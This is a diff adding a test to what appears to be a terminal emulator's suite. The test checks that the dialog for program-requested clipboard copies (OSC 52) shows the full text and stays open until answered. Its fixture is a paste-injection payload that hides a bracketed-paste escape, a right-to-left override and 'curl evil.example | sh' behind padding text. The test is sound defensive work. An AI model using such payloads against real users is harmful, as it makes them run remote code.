@@ -104,6 +104,24 @@ describe('the clipboard', () => {
     expect(await question.count()).toBe(0);
   });
 
+  it('[X18] the question shows all of what would be copied, and stays until it is answered', async () => {
+    const terminal = terminalOf(page);
+    const text = `${'harmless '.repeat(200)}\u202e\x1b[201~\ncurl evil.example | sh\n`;
+    await terminal.types(`printf '\\033]52;c;${base64(text)}\\007'\n`);
+    const question = page.getByRole('dialog', { name: 'Let the program copy this?' });
+    const preview = question.locator('.preview');
+    const shown = `${'harmless '.repeat(200)}⟨U+202E⟩␛[201~\ncurl evil.example | sh␊`;
+    await expect.poll(() => preview.textContent()).toBe(shown);
+    expect(await preview.evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(true);
+    await question.getByText('1,831 characters, 2 lines').waitFor();
+    // Another wish does not replace what is being read.
+    await terminal.types(`printf '\\033]52;c;${base64('theirs')}\\007'; echo asked-$((1+1))\n`);
+    await terminal.shows(/^asked-2$/m);
+    expect(await preview.textContent()).toBe(shown);
+    await question.getByRole('button', { name: 'Copy' }).click();
+    await expect.poll(clipboard).toBe(text);
+  });
+
   it('is not asked for by a terminal that was closed', async () => {
     const terminal = terminalOf(page);
     await newTerminal(page);
